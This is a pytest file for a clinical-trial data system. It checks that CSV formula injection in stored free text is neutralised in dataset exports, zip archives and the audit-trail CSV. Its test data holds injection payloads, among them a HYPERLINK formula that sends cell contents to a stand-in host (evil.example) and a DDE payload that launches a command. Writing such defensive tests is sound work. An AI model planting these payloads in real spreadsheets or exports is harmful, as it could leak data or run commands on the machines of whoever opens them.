"""CSV formula injection in what the clinic writes (issue 11, item 4): free text that starts
with ``=``, ``+``, ``-``, ``@`` or a tab, stored in the clinic, reaches neither the exported
dataset (files and zip) nor the audit trail's CSV as a live formula, and the export still reads
back to the very values stored. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import polars as pl
import pytest

from ovaregen.clinic.audit_view import audit_csv
from ovaregen.clinic.exchange import dataset_files, dataset_zip, study_dataset
from ovaregen.clinic.importing import import_dataset
from ovaregen.clinic.scope import EVERYWHERE
from ovaregen.clinic.studies import protocol_of, study_named
from ovaregen.clinic.views import Reader, archive_reader
from ovaregen.domain.variables import DatasetFile
from ovaregen.io.dataset import Dataset
from ovaregen.io.reader import validate_dataset
from ovaregen.io.spreadsheet_safe import unescaped_cell
from ovaregen.io.writer import write_dataset
from ovaregen.store import audit
from ovaregen.store.database import Database
from ovaregen.synth import synthesize
from tests.clinic_fixtures import SITE
from tests.spreadsheet_checks import csv_cells, live_cells

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "'\t=quote then tab",
)
TEXT_COLUMNS = {
    DatasetFile.PARTICIPANTS: ("ethnicity",),
    DatasetFile.ADVERSE_EVENTS: ("term",),
    DatasetFile.MOBILISATION: ("proposal_reason", "decision_reason"),
}
KEYS = ("participant_id", "visit", "day", "onset_date")


def _attacked(dataset: Dataset) -> Dataset:
    """The dataset with the text columns above holding the attacks, row after row (every
    woman's ethnicity; the reasons where the source has one)."""
    frames = {}
    for file in DatasetFile:
        frame = dataset.table(file)
        for column in TEXT_COLUMNS.get(file, ()):
            values = [
                None if value is None and file is DatasetFile.MOBILISATION else attack
                for value, attack in zip(
                    frame.get_column(column).to_list(),
                    ATTACKS * frame.height,
                    strict=False,
                )
            ]
            frame = frame.with_columns(pl.Series(column, values, pl.String))
        frames[file.value] = frame
    return Dataset(**frames, source=dataset.source, supplied=dataset.supplied)  # type: ignore[arg-type]


def _clinic_with_attacks(database: Database, study: str, folder: Path) -> Dataset:
    write_dataset(synthesize(study, 12, 4), folder)
    read = validate_dataset(folder, protocol_of(study)).dataset
    assert read is not None
    attacked = _attacked(read)
    with database.transaction() as session:
        import_dataset(
            session, study_named(session, study), attacked, username="importer", default_site=SITE
        )
    return attacked


def _read_back(files: dict[str, str], folder: Path, study: str) -> Dataset:
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    report = validate_dataset(folder, protocol_of(study))
    assert report.dataset is not None, [f.message for f in report.findings][:5]
    return report.dataset


@pytest.mark.parametrize("study", ["ucmsc-rct", "regenera"])
def test_the_exported_dataset_holds_no_live_formula_and_reads_back_exactly(
    clinic_database: Database, tmp_path: Path, study: str
) -> None:
    stored = _clinic_with_attacks(clinic_database, study, tmp_path / "source")
    for blinded in (True, False):
        with clinic_database.transaction() as session:
            dataset = study_dataset(
                session, study_named(session, study), blinded=blinded, access=EVERYWHERE
            )
            files = dataset_files(dataset)
            archive = dataset_zip(dataset)
        for name, text in files.items():
            assert live_cells(text) == [], f"{name} (blinded={blinded})"
        with zipfile.ZipFile(io.BytesIO(archive)) as opened:
            for name in opened.namelist():
                assert live_cells(opened.read(name).decode("utf-8")) == [], name
        again = _read_back(files, tmp_path / f"again-{blinded}", study)
        for file, columns in TEXT_COLUMNS.items():
            if stored.table(file).is_empty():
                continue
            keys = [k for k in KEYS if k in stored.table(file).columns]
            left = stored.table(file).select(*keys, *columns).sort(keys, nulls_last=True)
            right = again.table(file).select(*keys, *columns).sort(keys, nulls_last=True)
            assert left.equals(right), f"{file.file_name}: text changed on the way out"
            assert set(ATTACKS) & set(left.get_column(columns[0]).drop_nulls().to_list())


def _trail(database: Database, reader: Reader) -> str:
    with database.transaction() as session:
        return audit_csv(audit.query(session, audit.AuditFilter()), reader)


def test_the_audit_csv_holds_no_live_formula_and_numbers_stay_numbers(
    clinic_database: Database, tmp_path: Path
) -> None:
    _clinic_with_attacks(clinic_database, "ucmsc-rct", tmp_path / "source")
    with clinic_database.transaction() as session:
        audit.record(
            session,
            username="=evil",
            action=audit.Action.UPDATE,
            entity="form",
            entity_id="-1",
            study="ucmsc-rct",
            participant="@someone",
            changes={"afc": [3, -2], "amh_ng_ml": [-0.5, None], "note": ["+x", "\t=1+1"]},
            reason="=1+1 is why",
        )
    text = _trail(clinic_database, archive_reader("archivist"))
    assert live_cells(text) == []
    rows = csv_cells(text)
    header, body = rows[0], rows[1:]
    decoded = [dict(zip(header, map(unescaped_cell, row), strict=True)) for row in body]
    assert set(ATTACKS) <= {row["new"] for row in decoded}  # the imported values, as stored
    last = {row["field"]: row for row in decoded if row["username"] == "=evil"}
    assert (last["afc"]["old"], last["afc"]["new"]) == ("3", "-2")
    assert (last["amh_ng_ml"]["old"], last["amh_ng_ml"]["new"]) == ("-0.5", "")
    assert (last["note"]["old"], last["note"]["new"]) == ("+x", "\t=1+1")
    assert {row["reason"] for row in last.values()} == {"=1+1 is why"}
    assert {row["participant"] for row in last.values()} == {"@someone"}
    raw = {row[header.index("field")]: row for row in body if row[2] == "'=evil"}
    assert raw["afc"][header.index("new")] == "-2"  # a number is written as a number
    assert raw["note"][header.index("new")] == "'\t=1+1"


def test_a_blinded_reader_of_the_trail_gets_the_same_protection(
    clinic_database: Database, tmp_path: Path
) -> None:
    _clinic_with_attacks(clinic_database, "ucmsc-rct", tmp_path / "source")
    text = _trail(clinic_database, Reader("monitor", "monitor", EVERYWHERE))
    assert live_cells(text) == []
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
